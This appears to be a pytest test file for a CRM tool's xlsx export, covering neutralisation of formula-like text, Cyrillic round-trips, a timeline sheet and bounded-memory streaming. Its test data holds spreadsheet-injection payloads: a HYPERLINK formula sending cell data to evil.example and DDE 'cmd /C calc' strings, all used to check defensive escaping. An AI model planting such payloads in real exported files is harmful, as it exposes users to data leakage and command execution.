"""Export writes clients and their timeline to xlsx: readable back, never a live formula, in constant memory."""

from __future__ import annotations

import io
import subprocess
import sys
import zipfile
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.cell import WriteOnlyCell

from crm_hub_plugins.excel.export import neutralise, write_clients_xlsx
from crm_hub_plugins.excel.importer import plan_import
from crm_hub_plugins.excel.reader import open_sheet
from hub.core.events import ClientView, ItemView, RefView

CREATED = datetime(2024, 3, 1, 9, 30, tzinfo=UTC)


def client(number: int, **changes: object) -> ClientView:
    data: dict[str, object] = {
        "id": number,
        "kind": "person",
        "name": "Ёлкина Анна Сергеевна",
        "phones": ["+79161234567", "+74951234567"],
        "emails": ["anna@пример.рф"],
        "refs": [RefView(system="bitrix24", account="acme.bitrix24.ru", entity="contact", id=str(number))],
        "company_id": 7,
        "version": 1,
        "created_at": CREATED,
        "updated_at": CREATED + timedelta(days=1),
    }
    data.update(changes)
    return ClientView.model_validate(data)


def sheet_xml(path: Path, number: int = 1) -> str:
    with zipfile.ZipFile(path) as archive:
        return archive.read(f"xl/worksheets/sheet{number}.xml").decode("utf-8")


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        (
            '=HYPERLINK("http://evil.example/?x="&A1,"Подробнее")',
            '\'=HYPERLINK("http://evil.example/?x="&A1,"Подробнее")',
        ),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("-1+2", "'-1+2"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("\t=1+2", "'\t=1+2"),
        ("\r=1+2", "'\r=1+2"),
        ("+7 916 123-45-67", "+7 916 123-45-67"),
        ("+79161234567", "+79161234567"),
        ("+7 (495) 123-45-67", "+7 (495) 123-45-67"),
        ("+79161234567, +74951234567", "+79161234567, +74951234567"),
        ("+1+2", "'+1+2"),
        ("Иванов = директор", "Иванов = директор"),
        ("", ""),
    ],
)
def test_neutralise_quotes_formula_starts_but_leaves_phones_readable(value: str, safe: str) -> None:
    assert neutralise(value) == safe


def test_neutralise_drops_characters_xml_cannot_carry_and_cuts_overlong_text() -> None:
    assert neutralise("Ива\x00нов\x07") == "Иванов"
    assert len(neutralise("я" * 40_000)) == 32_767


def test_why_text_must_be_neutralised_before_openpyxl_sees_it() -> None:
    # openpyxl turns any string starting with "=" into a formula cell; a plus or minus stays a string cell
    sheet = Workbook(write_only=True).create_sheet()
    assert WriteOnlyCell(sheet, value="=1+2").data_type == "f"
    assert WriteOnlyCell(sheet, value="+79161234567").data_type == "s"
    assert WriteOnlyCell(sheet, value=neutralise("=1+2")).data_type == "s"


def test_hostile_values_are_stored_as_text_and_phones_as_plain_strings(tmp_path: Path) -> None:
    hostile = client(
        1,
        name='=HYPERLINK("http://evil.example","x")',
        emails=["@SUM(1)"],
        phones=["+79161234567"],
        fields={"note": "-1+2"},
    )
    path = tmp_path / "out.xlsx"
    write_clients_xlsx(path, [hostile], field_names=["note"])
    xml = sheet_xml(path)
    assert "<f>" not in xml  # not a single formula cell in the sheet
    assert "<t>+79161234567</t>" in xml  # the phone is an inline string, exactly as written
    sheet = load_workbook(path).active
    assert sheet is not None
    row = next(sheet.iter_rows(min_row=2, values_only=True))
    assert row[2] == '\'=HYPERLINK("http://evil.example","x")'
    assert row[3] == "+79161234567"
    assert row[4] == "'@SUM(1)"
    assert row[8] == "'-1+2"


def test_export_round_trip_keeps_cyrillic_phones_and_refs(tmp_path: Path) -> None:
    path = tmp_path / "clients.xlsx"
    counts = write_clients_xlsx(
        path, [client(1), client(2, name="Пётр Петров", refs=[])], company_name={7: "ООО «Ромашка»"}.get
    )
    assert counts.clients == 2
    rows = [cells for _, cells in open_sheet(path)]
    assert rows[0] == [
        "id",
        "kind",
        "name",
        "phones",
        "emails",
        "company_id",
        "company",
        "refs",
        "created (UTC)",
        "updated (UTC)",
    ]
    assert rows[1] == [
        "1",
        "person",
        "Ёлкина Анна Сергеевна",
        "+79161234567, +74951234567",
        "anna@пример.рф",
        "7",
        "ООО «Ромашка»",
        "bitrix24:acme.bitrix24.ru/contact/1",
        "2024-03-01T09:30:00",
        "2024-03-02T09:30:00",
    ]


def test_an_export_can_be_imported_again(tmp_path: Path) -> None:
    path = tmp_path / "clients.xlsx"
    write_clients_xlsx(path, [client(1)])
    people = [o for o in plan_import(path).observations if o.client_kind == "person"]
    assert [(p.name, p.phones, p.emails) for p in people] == [
        ("Ёлкина Анна Сергеевна", ["+79161234567", "+74951234567"], ["anna@пример.рф"])
    ]


def test_refs_get_a_column_per_system_when_the_systems_are_given(tmp_path: Path) -> None:
    refs = [
        RefView(system="bitrix24", account="acme.bitrix24.ru", entity="contact", id="5"),
        RefView(system="amocrm", account="acme.amocrm.ru", entity="contact", id="9"),
        RefView(system="excel", account="list.xlsx", entity="row", id="ab12"),
    ]
    path = tmp_path / "clients.xlsx"
    write_clients_xlsx(path, [client(1, refs=refs)], systems=["amocrm", "bitrix24"])
    header, row = [cells for _, cells in open_sheet(path)]
    assert header[7:10] == ["refs: amocrm", "refs: bitrix24", "refs: other"]
    assert row[7:10] == ["acme.amocrm.ru/contact/9", "acme.bitrix24.ru/contact/5", "excel:list.xlsx/row/ab12"]


def test_the_timeline_goes_to_a_second_sheet(tmp_path: Path) -> None:
    call = ItemView(
        id=11,
        client_id=1,
        kind="interaction",
        channel="call",
        occurred_at=CREATED,
        version=1,
        refs=[],
        fields={"direction": "in", "status": "missed", "subject": "=cmd|' /C calc'!A0", "duration_s": 0},
        source=RefView(system="telephony", account="pbx", entity="call", id="1700000000.1"),
    )
    stream = io.BytesIO()
    counts = write_clients_xlsx(stream, [client(1)], [call])
    assert counts.items == 1
    book = load_workbook(io.BytesIO(stream.getvalue()))
    assert book.sheetnames == ["Clients", "Timeline"]
    rows = list(book["Timeline"].iter_rows(values_only=True))
    assert rows[0][:4] == ("client_id", "when (UTC)", "kind", "channel")
    assert rows[1][:7] == (1, datetime(2024, 3, 1, 9, 30), "interaction", "call", "in", "missed", "'=cmd|' /C calc'!A0")
    assert rows[1][9] == "telephony:pbx/call/1700000000.1"


MEMORY_PROBE = """
import resource, sys
from pathlib import Path
from hub.core.events import ClientView
from crm_hub_plugins.excel.export import write_clients_xlsx

template = ClientView.model_validate_json(sys.argv[2])

def clients(count):
    for number in range(count):
        yield template.model_copy(update={"id": number, "name": f"Клиент {number}"})

before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
write_clients_xlsx(Path(sys.argv[3]), clients(int(sys.argv[1])))
print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before)
"""


@pytest.mark.slow
def test_export_of_50000_clients_streams_in_bounded_memory(tmp_path: Path) -> None:
    # a child process, so that the peak resident size is the export's alone (tracemalloc would take minutes)
    out = tmp_path / "big.xlsx"
    probe = subprocess.run(
        [sys.executable, "-c", MEMORY_PROBE, "50000", client(0).model_dump_json(), str(out)],
        capture_output=True,
        text=True,
        check=True,
        cwd=Path(__file__).resolve().parents[3],
    )
    growth_kb = int(probe.stdout.strip())
    assert len(list(open_sheet(out))) == 50_001
    # 50,000 clients held in memory take about 70 MB even sharing their lists; streamed, the peak barely moves
    assert growth_kb < 30 * 1024, f"peak grew by {growth_kb / 1024:.1f} MB"
